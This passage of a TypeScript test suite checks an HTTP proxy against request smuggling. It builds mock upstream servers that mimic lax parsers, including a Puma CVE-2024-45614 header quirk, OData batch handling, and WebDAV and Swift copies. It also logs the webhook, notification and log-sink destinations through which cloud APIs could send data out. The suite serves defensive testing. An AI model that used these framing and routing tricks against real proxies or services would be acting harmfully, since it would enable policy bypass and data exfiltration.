// Request smuggling: framing tricks that could make the proxy and the upstream disagree on where
// one request ends, so that a request the policy never saw (here: anything under /deny, which the
// policy denies) reaches the upstream. Every case is raw bytes on a socket; every case asserts
// the client outcome (a well-formed refusal or a closed connection) AND that the upstream's raw
// byte stream never contains the smuggled request.
import t, { type Test } from 'tap';
import fc from 'fast-check';
import { spawn, spawnSync } from 'node:child_process';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import zlib from 'node:zlib';
import crypto from 'node:crypto';
import { parse as parseYaml } from 'yaml';
import jsonc from 'jsonc-simple-parser';
import { parse as parseGraphql, valueFromASTUntyped as graphqlValue, visit as visitGraphql } from 'graphql';
import { withoutNamedHeaders } from '../../proxy/http-util.ts';
import { leavesUnreadBody, readableAsRequest } from '../../proxy/upstream.ts';
import { formTailWatches } from '../../proxy/form-tail.ts';
import { curl, eventually, exchange, isProblem, parseResponses, rawToProxy, startTestAirlock, startUpstream, tlsTunnel, upstreamCa } from './helpers.ts';

const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 30);
const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};

const up = await startUpstream(t);
const ca = await upstreamCa(t);
const tlsUp = await startUpstream(t, { tlsCa: ca });
// Python's http.server, HTTP/1.1: a handler that answers without reading the body, and a server
// that then reads its next request where that body starts ("CL.0"). It logs every request it runs.
const pyServer = spawn('python3', ['-c', `
import http.server, sys, time, urllib.parse
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def answer(self):
        sys.stderr.write(self.command + ' ' + self.path + ' ' + str(self.headers.get('connection')) + ' te=' + str(self.headers.get('transfer-encoding')) + ' cl=' + str(self.headers.get('content-length')) + '\\n'); sys.stderr.flush()
        if self.path.startswith('/late/'):
            # /late/STATUS/LENGTH/ID?PIECE%1FPIECE...: the head declaring LENGTH bytes ('-': all the pieces', 'none': no length), then the pieces
            # 80 ms apart (as a handler writing what it computes does), whatever the method or status; each piece logged once written
            route, _, query = self.path.partition('?')
            _, _, status, length, ident = route.split('/', 4)
            pieces = urllib.parse.unquote(query).encode('latin1').split(b'\\x1f')
            self.send_response(int(status))
            if length != 'none': self.send_header('Content-Length', str(sum(map(len, pieces))) if length == '-' else length)
            self.end_headers()
            for i, piece in enumerate(pieces):
                if i: time.sleep(0.08 if i == 1 else 0.3)
                self.wfile.write(piece); sys.stderr.write('late ' + ident + ' piece ' + str(i) + '\\n'); sys.stderr.flush()
            return
        self.send_response(200); self.send_header('Content-Length', '2'); self.end_headers(); self.wfile.write(b'ok')
    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = do_HEAD = answer
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
`]);
t.teardown(() => void pyServer.kill());
let pyLog = '';
pyServer.stderr.on('data', (c: Buffer) => { pyLog += c.toString(); });
const pyPort = Number(await new Promise<string>((r) => pyServer.stdout.once('data', (c: Buffer) => r(c.toString()))));
// An OData-style batch server whose multipart reader is Python's `email` package (RFC 2046: a
// delimiter begins a line and ends it): it logs the request line of each application/http part,
// and each field of a form (a Graph API `batch`, an S3 form upload's `key`) it would act on, as
// `email` reads the form and as Werkzeug (Flask) does.
const pyBatch = spawn('python3', ['-c', `
import email, email.utils, http.server, io, sys
try:  # (only the Werkzeug tests need it; the other readings go on without)
    from werkzeug.formparser import parse_form_data
    from werkzeug.http import parse_options_header
except ImportError:
    parse_form_data = None
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get('content-length') or 0))
        msg = email.message_from_bytes(b'Content-Type: ' + self.headers.get('content-type', '').encode('latin1') + b'\\r\\n\\r\\n' + body)
        for part in msg.walk():
            if part.get_content_type() == 'application/http':
                sys.stderr.write('RAN ' + part.get_payload().lstrip().splitlines()[0] + '\\n'); sys.stderr.flush()
                continue
            try:  # (email's RFC 2231 decoding raises on a mix of name* and name*0*)
                name = part.get_param('name', header='content-disposition')
            except Exception:
                continue
            if name:
                sys.stderr.write('FIELD ' + email.utils.collapse_rfc2231_value(name) + '=' + part.get_payload(decode=True).decode('latin1') + '\\n'); sys.stderr.flush()
        # And as Flask reads a form (Werkzeug's own multipart parser and parameter reading; which
        # bodies are forms Werkzeug decides by its own reading of the type: twenty-seventh pass).
        if parse_form_data and parse_options_header(self.headers.get('content-type', ''))[0].lower() in ('multipart/form-data', 'application/x-www-form-urlencoded'):
            env = {'REQUEST_METHOD': 'POST', 'CONTENT_TYPE': self.headers.get('content-type'), 'CONTENT_LENGTH': str(len(body)), 'wsgi.input': io.BytesIO(body)}
            try:
                for k, v in parse_form_data(env)[1].items(multi=True):
                    sys.stderr.write('FIELD ' + k + '=' + v + '\\n'); sys.stderr.flush()
            except Exception:
                pass
        self.send_response(200); self.send_header('Content-Length', '2'); self.end_headers(); self.wfile.write(b'ok')
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
`]);
t.teardown(() => void pyBatch.kill());
let pyBatchLog = '';
pyBatch.stderr.on('data', (c: Buffer) => { pyBatchLog += c.toString(); });
const pyBatchPort = Number(await new Promise<string>((r) => pyBatch.stdout.once('data', (c: Buffer) => r(c.toString()))));
// A server that keys headers the CGI way, as Rack's Puma did before 6.4.3 (CVE-2024-45614):
// upper-cased, `-` as `_`, the last of a name winning, so `Transfer_Encoding` is its
// TRANSFER_ENCODING. It frames each body by those keys (chunked first), keeps the connection and
// logs every request line it runs.
const cgiLog: string[] = [];
const cgi = net.createServer((s) => {
  let buf = Buffer.alloc(0);
  s.on('error', () => undefined);
  const step = (): boolean => {
    const end = buf.indexOf('\r\n\r\n');
    if (end < 0) return false;
    const lines = buf.subarray(0, end).toString('latin1').split('\r\n');
    const env: Record<string, string> = {};
    for (const l of lines.slice(1)) env[l.slice(0, l.indexOf(':')).trim().toUpperCase().replaceAll('-', '_')] = l.slice(l.indexOf(':') + 1).trim();
    let at = end + 4;
    if (/chunked/i.test(env.TRANSFER_ENCODING ?? '')) {
      for (;;) {
        const nl = buf.indexOf('\r\n', at);
        if (nl < 0) return false;
        const size = parseInt(buf.subarray(at, nl).toString('latin1'), 16);
        if (Number.isNaN(size)) return void s.destroy(), false;
        if (size === 0) { at = nl + 4; break; }
        at = nl + 2 + size + 2;
      }
    } else at += Number(env.CONTENT_LENGTH ?? 0);
    if (buf.length < at) return false;
    buf = buf.subarray(at);
    cgiLog.push(lines[0]!);
    s.write('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok');
    return true;
  };
  s.on('data', (c: Buffer) => {
    buf = Buffer.concat([buf, c]);
    while (step());
  });
});
await new Promise<void>((r) => cgi.listen(0, '127.0.0.1', r));
t.teardown(() => void cgi.close());
const cgiPort = (cgi.address() as net.AddressInfo).port;
// A WebDAV server as Go's golang.org/x/net/webdav serves one (the attack was shown with it):
// PUT writes the path; COPY and MOVE write the path the Destination header names (an absolute
// URL or path, resolved against the request, percent-decoded and cleaned; another host is a 502).
const davFiles = new Map<string, string>([['/ok/dav/a.txt', 'hello']]);
const davClean = (p: string): string => path.posix.normalize(decodeURIComponent(p));
// The same server runs OData `$batch` bodies as Olingo and ASP.NET OData do: each
// `application/http` part (changesets one level down) is a request it runs, relative targets
// against the service root; it logs each call it runs and answers GETs from davFiles.
const batchRan: string[] = [];
const esRan: string[] = [];
// Content-ID references as ASP.NET OData resolves them (ContentIdHelpers): a call's `$<id>`, anywhere
// in its URL, becomes the Location the call of that Content-ID answered (a POST's new entity).
let created = 0;
function resolveRefs(url: string, refs: Map<string, string>): string {
  return url.replace(/\$([A-Za-z0-9\-._~]+)/g, (m, id: string) => refs.get(id) ?? m);
}
function remember(refs: Map<string, string>, id: string | undefined, method: string, p: string): void {
  if (id) refs.set(id, method === 'POST' ? `${p}(${++created})` : p);
}
function runBatch(text: string, type: string, root: string, refs = new Map<string, string>()): string {
  const boundary = /boundary="?([^";]+)"?/i.exec(type)?.[1];
  if (!boundary) return '';
  let out = '';
  for (const part of text.split(`--${boundary}`).slice(1)) {
    if (part.startsWith('--')) break;
    const blank = /\r?\n\r?\n/.exec(part);
    if (!blank) continue;
    const head = part.slice(0, blank.index);
    const inner = part.slice(blank.index + blank[0].length);
    // Part headers as Microsoft.OData.Core reads them: the name before the first `:`, trimmed.
    const nested = /^[ \t]*content-type[ \t]*:\s*(multipart\/mixed[^\r\n]*)/im.exec(head);
    if (nested) out += runBatch(inner, nested[1]!, root, refs);
    else if (/^[ \t]*content-type[ \t]*:\s*application\/http/im.test(head)) {
      const [method, target] = inner.replace(/^\s+/, '').split(/\s+/, 2) as [string, string];
      const p = davClean(new URL(resolveRefs(target, refs), `http://x${root}`).pathname);
      remember(refs, /^[ \t]*content-id[ \t]*:[ \t]*(\S+)/im.exec(head)?.[1], method, p);
      batchRan.push(`${method} ${p}`);
      out += `${method} ${p} -> ${davFiles.get(p) ?? '404'}\n`;
    }
  }
  return out;
}
davFiles.set('/deny/secret.txt', 'TOP-SECRET');
davFiles.set('/v2/deny/db/blobs/sha256:5ec', 'TOP-SECRET');
davFiles.set('/v2/ok/base/blobs/sha256:0b5', 'base layer');
davFiles.set('/ok/protected/keep.txt', 'kept');
davFiles.set('/ok/scratch.txt', 'scratch');
davFiles.set('/gcs/ok/a.txt', 'public text');
// It reads a body as the servers above do: content codings undone (Elasticsearch always, ASP.NET's
// request decompression, Salesforce), and JSON in the encoding its byte order mark, charset or first
// bytes say (Python's json.loads, Jackson, .NET).
function serverRead(req: http.IncomingMessage, raw: Buffer): Buffer {
  let b = raw;
  for (const c of String(req.headers['content-encoding'] ?? '').split(',').map((x) => x.trim().toLowerCase()).filter(Boolean).reverse()) {
    // (`deflate` as zlib, or raw as ASP.NET Core's DeflateStream and Netty's ZLIB_OR_NONE take it too.)
    const inflate = (x: Buffer): Buffer => { try { return zlib.inflateSync(x); } catch { return zlib.inflateRawSync(x); } };
    // (A stream that does not decode whole is read as Go's compress/gzip, Java's GZIPInputStream and
    // .NET hand it to a JSON decoder: the data up to where it ends, the trailer never checked.)
    const sync = { finishFlush: zlib.constants.Z_SYNC_FLUSH };
    const lenient = (strict: () => Buffer, loose: () => Buffer): Buffer => { try { return strict(); } catch { return loose(); } };
    b = c === 'gzip' ? lenient(() => zlib.gunzipSync(b), () => zlib.inflateRawSync(b.subarray(10), sync))
      : c === 'deflate' ? lenient(() => inflate(b), () => zlib.inflateRawSync(b.subarray(2), sync))
      : c === 'br' ? lenient(() => zlib.brotliDecompressSync(b), () => zlib.brotliDecompressSync(b, { finishFlush: zlib.constants.BROTLI_OPERATION_FLUSH })) : b;
  }
  const type = String(req.headers['content-type'] ?? '');
  if (/^multipart\//i.test(type)) return b;
  const charset = /charset\*?=(?:utf-8'')?"?([\w-]+)/i.exec(type)?.[1]?.toLowerCase();
  const boms: Array<[number[], string]> = [[[0xff, 0xfe, 0, 0], 'utf-32le'], [[0xef, 0xbb, 0xbf], 'utf-8'], [[0xff, 0xfe], 'utf-16le'], [[0xfe, 0xff], 'utf-16be']];
  const bom = boms.find(([m]) => m.every((x, i) => b[i] === x));
  if (bom) return Buffer.from(bom[1] === 'utf-32le' ? String.fromCodePoint(...Array.from({ length: (b.length - 4) / 4 }, (_, i) => b.readUInt32LE(4 + 4 * i))) : new TextDecoder(bom[1]).decode(b.subarray(bom[0].length)));
  if (b[0] !== 0 && b[1] === 0 && b[2] === 0 && b[3] === 0) return Buffer.from(String.fromCodePoint(...Array.from({ length: b.length / 4 }, (_, i) => b.readUInt32LE(4 * i))));
  // Java and .NET decode by the label; Go, Node and Rust read JSON as UTF-8 whatever it says (RFC
  // 8259): here a labelled body without a NUL byte is read the second way.
  if ((charset?.startsWith('utf-16') && b.includes(0)) || (b[0] !== 0 && b[1] === 0)) return Buffer.from(new TextDecoder(charset === 'utf-16be' || charset === 'utf-16' ? 'utf-16be' : 'utf-16le').decode(b));
  // Spring's Jackson converter and Django REST Framework's parsers decode by any other label too
  // (Shift_JIS, ISO-2022-JP; UTF-7 and EBCDIC through Python's codecs, as Django does).
  return charset && !/^utf-?(?:8|16|32)/.test(charset) ? decodedIn(b, charset) : b;
}
/** The first JSON value of a text, the rest unread, as Go's json.Decoder and Jackson (FAIL_ON_TRAILING_TOKENS off) read a body. */
function firstValue(text: string): unknown {
  return JSON.parse(spawnSync('python3', ['-c', 'import json, sys; print(json.dumps(json.JSONDecoder().raw_decode(sys.stdin.read().lstrip())[0]))'], { input: text }).stdout.toString());
}
/** Bytes in a charset as UTF-8: TextDecoder's, else Python's codecs (UTF-7, EBCDIC); as they are when neither knows it. */
function decodedIn(b: Buffer, charset: string): Buffer {
  try {
    return Buffer.from(new TextDecoder(charset).decode(b));
  } catch {
    const py = spawnSync('python3', ['-c', 'import sys; sys.stdout.buffer.write(sys.stdin.buffer.read().decode(sys.argv[1]).encode())', charset], { input: b });
    return py.status === 0 ? py.stdout : b;
  }
}
/**
 * Parameters as PHP registers them (main/php_variables.c): the name cut at a NUL, leading blanks
 * dropped, blanks and dots before the first `[` turned into `_`; `a[x][]` nests under `a` (an
 * unclosed `[` is `_`); arrays whose keys are 0…n read as lists, as a JSON encoder of them writes.
 */
function phpVars(pairs: ReadonlyArray<[string, string]>): Record<string, unknown> {
  const root: Record<string, unknown> = {};
  for (const [raw, v] of pairs) {
    let name = raw.split('\0', 1)[0]!.replace(/^ +/, '');
    const open = name.indexOf('[');
    const base = (open < 0 ? name : name.slice(0, open)).replace(/[ .]/g, '_');
    if (!base) continue;
    if (open < 0 || name.indexOf(']', open) < 0) {
      root[open < 0 ? base : `${base}_${name.slice(open + 1)}`] = v;
      continue;
    }
    const keys: string[] = [];
    for (let at = open; name[at] === '['; ) {
      const close = name.indexOf(']', at);
      if (close < 0) break;
      keys.push(name.slice(at + 1, close));
      at = close + 1;
    }
    name = base;
    let node = root as Record<string, unknown>;
    let key = base;
    for (const k of keys) {
      if (!node[key] || typeof node[key] !== 'object') node[key] = {};
      const next = node[key] as Record<string, unknown>;
      node = next;
      key = k === '' ? String(Object.keys(next).length) : k;
    }
    node[key] = v;
  }
  const listed = (x: unknown): unknown => {
    if (!x || typeof x !== 'object') return x;
    const entries = Object.entries(x).map(([k, y]) => [k, listed(y)] as const);
    return entries.every(([k], i) => k === String(i)) ? entries.map(([, y]) => y) : Object.fromEntries(entries);
  };
  return listed(root) as Record<string, unknown>;
}
davFiles.set('/v1/AUTH_a/ok/a.txt', 'hello');
davFiles.set('/v1/AUTH_a/private/secret.txt', 'TOP-SECRET');
davFiles.set('/v1/AUTH_b/ok/a.txt', 'TOP-SECRET');
const swiftRan: string[] = [];
const sentTo: string[] = [];
const storedScripts = new Map<string, string>();
// A terms lookup, indexed shape or percolate (`index`, `id`), a more_like_this item (`_index`) in an
// Elasticsearch query reads that document.
const esLookups = (v: unknown): void => {
  if (!v || typeof v !== 'object') return;
  const o = v as Record<string, unknown>;
  if (typeof o._index === 'string') esRan.push(`lookup ${o._index}`);
  else if (typeof o.index === 'string' && o.id !== undefined) esRan.push(`lookup ${o.index}`);
  // (A lookup runtime field reads the documents of its target index for every hit.)
  if (o.type === 'lookup' && typeof o.target_index === 'string') esRan.push(`lookup ${o.target_index}`);
  for (const x of Object.values(o)) esLookups(x);
};
// JSON read as Go's encoding/json, ASP.NET Core, Newtonsoft and SCIM (RFC 7643 §2.1) match member
// names (without case) and as protobuf's JSON parser does (either the camelCase or the proto name).
const foldedJson = (b: Buffer): unknown => JSON.parse(b.toString(), function (this: Record<string, unknown>, k, v: unknown) {
  const f = k.toLowerCase().replaceAll('_', '');
  if (f !== k) this[f] = v;
  return f === k ? v : undefined;
});
const dav = await startUpstream(t, {
  handler: (req, res, raw) => {
    const body = serverRead(req, raw);
    // Routed as Tomcat, Jetty and Spring route: each segment's `;parameters` left out.
    const src = davClean(new URL(req.url ?? '/', 'http://x').pathname.split('/').map((seg) => seg.split(';')[0]).join('/'));
    // OpenStack Swift (copy.py, symlink.py, dlo.py): object names in headers are under the request's
    // account (or the one an `…-Account` header names), percent-decoded, a leading `/` optional.
    const swift = /^\/v1(?:\.0)?\/([^/]+)\/[^/]+\/.+$/.exec(src);
    const h = (name: string): string | undefined => req.headers[name] as string | undefined;
    // Ceph RGW's Swift API as it is laid out by default (rgw_swift_account_in_url = false): /swift/v1/<container>/<object>.
    if (/^\/swift\/v1\/[^/]+\/.+$/.test(src) && req.method === 'PUT' && h('x-copy-from')) {
      const from = `/swift/v1/${decodeURIComponent(h('x-copy-from')!).replace(/^\/+/, '')}`;
      swiftRan.push(`copy ${from}`);
      if (davFiles.has(from)) davFiles.set(src, davFiles.get(from)!);
      return void res.writeHead(201, { 'content-length': 0 }).end();
    }
    // A static large object manifest: each segment's path (under the account) is joined on every GET.
    if (swift && req.method === 'PUT' && new URL(req.url ?? '/', 'http://x').searchParams.get('multipart-manifest') === 'put') {
      for (const seg of JSON.parse(body.toString()) as Array<{ path?: string }>) if (seg.path) swiftRan.push(`segment /v1/${swift[1]}/${seg.path.replace(/^\/+/, '')}`);
      return void res.writeHead(201, { 'content-length': 0 }).end();
    }
    if (swift && (h('x-copy-from') ?? h('x-symlink-target') ?? h('x-object-manifest') ?? (req.method === 'COPY' ? h('destination') : undefined)) !== undefined) {
      const named = (v: string, account?: string): string => `/v1/${account ?? swift[1]}/${decodeURIComponent(v).replace(/^\/+/, '')}`;
      if (req.method === 'PUT' && h('x-copy-from')) {
        const from = named(h('x-copy-from')!, h('x-copy-from-account'));
        swiftRan.push(`copy ${from}`);
        if (davFiles.has(from)) davFiles.set(src, davFiles.get(from)!);
      }
      if (req.method === 'COPY') {
        const to = named(h('destination')!, h('destination-account'));
        swiftRan.push(`write ${to}`);
        davFiles.set(to, davFiles.get(src) ?? '');
      }
      if (h('x-symlink-target')) swiftRan.push(`link ${named(h('x-symlink-target')!, h('x-symlink-target-account'))}`);
      if (h('x-object-manifest')) swiftRan.push(`manifest ${named(h('x-object-manifest')!)}`);
      return void res.writeHead(201, { 'content-length': 0 }).end();
    }
    // GCS's JSON API copy: the object named after `copyTo`/`rewriteTo` is written.
    const gcs = /^\/storage\/v1\/b\/([^/]+)\/o\/([^/]+)\/(?:copyTo|rewriteTo)\/b\/([^/]+)\/o\/([^/]+)$/.exec(new URL(req.url ?? '/', 'http://x').pathname);
    if (req.method === 'POST' && gcs) {
      const from = `/gcs/${gcs[1]}/${decodeURIComponent(gcs[2]!)}`;
      if (davFiles.has(from)) davFiles.set(`/gcs/${gcs[3]}/${decodeURIComponent(gcs[4]!)}`, davFiles.get(from)!);
      return void res.writeHead(davFiles.has(from) ? 200 : 404, { 'content-length': 0 }).end();
    }
    // Configurations that make the server send elsewhere later (recorded as set up): S3's event
    // notifications (any account's queue, topic or function), GCS's (any project's Pub/Sub topic),
    // a Google push channel's address, an Elasticsearch snapshot repository's bucket or URL.
    if (req.method === 'PUT' && /[?&]notification(?:[=&]|$)/.test(req.url ?? '')) {
      for (const m of body.toString().matchAll(/<(?:\w+:)?(?:Queue|Topic|CloudFunction)>([^<]*)</g)) sentTo.push(m[1]!.trim());
      return void res.writeHead(200, { 'content-length': 0 }).end();
    }
    if (req.method === 'POST' && /\/notificationConfigs$|\/watch$/.test(src)) {
      const o = foldedJson(body) as { topic?: string; address?: string };
      sentTo.push(o.topic ?? o.address ?? '');
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // (Twenty-fifth pass: AWS's log destinations, JSON APIs named by X-Amz-Target: an export task's bucket, a
    // subscription filter's stream, a trail's bucket.)
    const amzTarget = String(req.headers['x-amz-target'] ?? '').split('.').pop();
    if (req.method === 'POST' && ['CreateExportTask', 'PutSubscriptionFilter', 'CreateTrail', 'UpdateTrail'].includes(amzTarget ?? '')) {
      const o = JSON.parse(body.toString()) as { destination?: string; destinationArn?: string; S3BucketName?: string };
      sentTo.push(String(o.destination ?? o.destinationArn ?? o.S3BucketName));
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    // (Twenty-sixth pass: Solr searches the collections its `collection` parameter lists, and queries the cores `shards` names.)
    // (Its SQL handler reads the collections FROM names; a streaming expression the first argument of each source and sink.)
    // (Twenty-eighth pass: a source wherever it stands, inside any decorator; `fetch` and `shuffle` read theirs, `topic` its second; `/graph` runs them too.)
    const solrLang = /^\/solr\/[^/]+\/(sql|stream|graph)$/.exec(src);
    if (solrLang) {
      const all = new URLSearchParams(`${new URL(req.url ?? '/', 'http://x').search.slice(1)}&${body.toString()}`);
      const text = all.get(solrLang[1] === 'sql' ? 'stmt' : 'expr') ?? '';
      if (solrLang[1] === 'sql') for (const m of text.matchAll(/\b(?:FROM|JOIN)\s+(\w+)/gi)) esRan.push(`solr-search ${m[1]}`);
      else for (const m of text.matchAll(/\b(search|update|facet|random|fetch|shuffle|topic)\(\s*(\w+)(?:\s*,\s*(\w+))?/g)) esRan.push(`solr-search ${m[1] === 'topic' ? m[3] : m[2]}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    const solr = /^\/solr\/([^/]+)\/(?:select|query)$/.exec(src);
    if (solr) {
      const params = new URL(req.url ?? '/', 'http://x').searchParams;
      const form = String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded') ? new URLSearchParams(body.toString()) : undefined;
      const json = String(req.headers['content-type']).startsWith('application/json') ? (JSON.parse(body.toString()) as { params?: Record<string, string> }).params ?? {} : {};
      const collection = form?.get('collection') ?? params.get('collection') ?? json.collection ?? solr[1]!;
      for (const c of collection.split(',')) esRan.push(`solr-search ${c}`);
      for (const sh of (form?.get('shards') ?? params.get('shards') ?? json.shards ?? '').split(/[,|]/).filter(Boolean)) esRan.push(`solr-shard ${sh}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    // (Twenty-sixth pass: Amazon SQS acts on the queue its QueueUrl names, JSON or Query protocol, whatever the path.)
    // (And SNS's Publish, to the topic its TopicArn names, in the form, the query or a JSON body.)
    const snsForm = new URLSearchParams(`${new URL(req.url ?? '/', 'http://x').search.slice(1)}&${String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded') ? body.toString() : ''}`);
    if (req.method === 'POST' && (snsForm.get('Action') === 'Publish' || String(req.headers['x-amz-target'] ?? '').endsWith('.Publish'))) {
      const arn = snsForm.get('TopicArn') ?? snsForm.get('TargetArn') ?? (JSON.parse(body.toString() || '{}') as { TopicArn?: string }).TopicArn;
      sentTo.push(`sns ${arn}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    if (req.method === 'POST' && (String(req.headers['x-amz-target'] ?? '').startsWith('AmazonSQS.') || /(?:^|&)Action=SendMessage/.test(body.toString()))) {
      const o = String(req.headers['x-amz-target'] ?? '').startsWith('AmazonSQS.') ? JSON.parse(body.toString()) as { QueueUrl?: string } : { QueueUrl: new URLSearchParams(body.toString()).get('QueueUrl') ?? undefined };
      sentTo.push(`sqs ${o.QueueUrl ?? src}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    // (Twenty-sixth pass: EventBridge's PutTargets, Scheduler's schedules and Pipes: every matching event sent to the ARNs named.)
    if (req.method === 'POST' && amzTarget === 'PutEvents') {
      for (const e of (JSON.parse(body.toString()) as { Entries: Array<{ EventBusName?: string }> }).Entries) sentTo.push(e.EventBusName ?? 'default');
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    if (req.method === 'POST' && amzTarget === 'PutTargets') {
      for (const tg of (JSON.parse(body.toString()) as { Targets: Array<{ Arn: string; DeadLetterConfig?: { Arn: string } }> }).Targets) sentTo.push(tg.Arn, tg.DeadLetterConfig?.Arn ?? '');
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    if ((req.method === 'POST' || req.method === 'PUT') && /^\/(?:schedules|v1\/pipes)\/[^/]+$/.test(src)) {
      const o = JSON.parse(body.toString()) as { Target?: string | { Arn: string; DeadLetterConfig?: { Arn: string } } };
      sentTo.push(typeof o.Target === 'string' ? o.Target : o.Target?.Arn ?? '', typeof o.Target === 'object' ? o.Target.DeadLetterConfig?.Arn ?? '' : '');
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    // (Twenty-fifth pass: an Azure diagnostic setting, the resource's logs sent to the resources it names from then on.)
    if (req.method === 'PUT' && /\/providers\/Microsoft\.Insights\/diagnosticSettings\/[^/]+$/i.test(src)) {
      const o = JSON.parse(body.toString()) as { properties?: Record<string, unknown> };
      for (const v of Object.values(o.properties ?? {})) if (typeof v === 'string') sentTo.push(v);
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    // (Twenty-fifth pass: a Cloud Logging sink, every matching log entry written to its destination from then on.)
    if ((req.method === 'POST' || req.method === 'PUT' || req.method === 'PATCH') && /\/v2\/projects\/[^/]+\/sinks(?:\/[^/]+)?$/.test(src)) {
      sentTo.push(String((JSON.parse(body.toString()) as { destination?: unknown }).destination));
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    const repo = /^\/_snapshot\/([^/_][^/]*)$/.exec(src);
    if (repo && (req.method === 'PUT' || req.method === 'POST')) {
      const o = JSON.parse(body.toString()) as { type: string; settings: { bucket?: string; url?: string; location?: string } };
      sentTo.push(`${o.type} ${o.settings.bucket ?? o.settings.url ?? o.settings.location}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // Mailgun's routes (twenty-fourth pass): each incoming mail a route's expression matches is posted to
    // the URL of its `forward("…")` action, or stored and notified to `store(notify="…")` (every `action` field, form or multipart).
    if ((req.method === 'POST' || req.method === 'PUT') && /\/routes(?:\/[^/]+)?$/.test(src)) {
      const text = body.toString();
      const actions = String(req.headers['content-type']).startsWith('multipart/')
        ? [...text.matchAll(/name="action"\r\n\r\n([^]*?)\r\n--/g)].map((m) => m[1]!)
        : new URLSearchParams(text).getAll('action');
      for (const a of actions) for (const m of a.matchAll(/(?:forward|store)\s*\(\s*(?:notify\s*=\s*)?["']([^"']*)["']/g)) sentTo.push(m[1]!);
      return void res.writeHead(201, { 'content-length': 0 }).end();
    }
    // Webhooks and change subscriptions (GitHub/GitLab hooks, Stripe webhook endpoints, Kubernetes
    // admission webhooks, Microsoft Graph subscriptions, Twilio's status callbacks): the service
    // sends to the URL registered, later and on its own.
    // (GitHub's `PATCH …/hooks/{id}/config` moves a hook; a job API takes its callback in the query; WebSub's hub.callback.)
    // (And OpenID Connect's dynamic client registration: the provider fetches `jwks_uri`, `sector_identifier_uri`
    // and `request_uris`, and posts logout tokens and CIBA notifications to the back-channel endpoints.)
    if ((req.method === 'POST' || req.method === 'PATCH') && /\/(?:hooks|webhooks\/|webhook_endpoints|webhook_subscriptions|validatingwebhookconfigurations|subscriptions|Messages\.json|config|jobs|hub|connector|register|remote_mirrors|push_mirrors|integration|integrations|applications|Call)$/.test(src)) {
      const form = String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded');
      const walk = (v: unknown, key = ''): void => {
        // (A job API here calls back whatever URL it is given, under any name.)
        // (And, twenty-second pass: Pub/Sub's pushEndpoint, Twilio's SmsUrl and VoiceUrl, `callback_uri`, a REST hook's
        // target_url and Pipedrive's subscription_url, SNS's Endpoint.)
        if (typeof v === 'string' && (/^(?:url|notificationurl|lifecyclenotificationurl|statuscallback|callback_url|hub\.callback|jwks_uri|sector_identifier_uri|request_uris|backchannel_logout_uri|backchannel_client_notification_endpoint|pushendpoint|smsurl|voiceurl|callback_uri|target_url|subscription_url|endpoint|recordingstatuscallback|amdstatuscallback|inboundhookurl|bouncehookurl|prewebhookurl|target|uri|callbackurl|request_url|invocationendpoint|authorizationendpoint|tokenurl|token_endpoint|remote_address|integrationuri|status_url)$/i.test(key) || (src.endsWith('/jobs') && /^https?:/.test(v)) || (/\/(?:applications|Call)$/.test(src) && /(?:_url|Url)$/.test(key)) || (src.includes('/vonage/') && key === 'address'))) sentTo.push(v);
        // (Sentry's webhooks plugin: `urls`, one URL a line.)
        if (typeof v === 'string' && key === 'urls') for (const u of v.split(/\r?\n/)) sentTo.push(u.trim());
        // (Under /slack/ a form field's JSON document is read, as Slack reads `manifest`.)
        else if (typeof v === 'string' && src.includes('/slack/') && v.startsWith('{')) walk(JSON.parse(v), key);
        else if (Array.isArray(v)) for (const x of v) walk(x, key);
        else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, k);
      };
      // (Under /rack/ the query and a form are split on `;` as well, as Rack 2 and Python before 3.9.2 split them.)
      const semi = (q: string): URLSearchParams => new URLSearchParams(src.includes('/rack/') ? q.replaceAll(';', '&') : q);
      walk(Object.fromEntries(semi(new URL(req.url ?? '/', 'http://x').search.slice(1))));
      // (Under /php/ it reads a form as PHP fills $_POST: `.`, blanks and an unclosed `[` in a name are `_`;
      // under /first/ a JSON member given twice as first-wins readers (Go's gjson, simdjson) take it.)
      const firstWins = (text: string): unknown => JSON.parse(spawnSync('python3', ['-c', 'import json, sys; print(json.dumps(json.loads(sys.stdin.read(), object_pairs_hook=lambda ps: dict(reversed(ps)))))'], { input: text }).stdout.toString());
      // (Under /stream/ the first JSON value, the rest unread, as Go's json.Decoder and Jackson read a body;
      // under /jsonc/ comments and trailing commas taken, as Jackson's ALLOW_COMMENTS and System.Text.Json's options do.)
      // (Under /gson/ as Gson's fromJson reads a body, leniently: its XSSI prefix, `#` comments, `=` or `=>` and `;` as separators; twenty-eighth pass.)
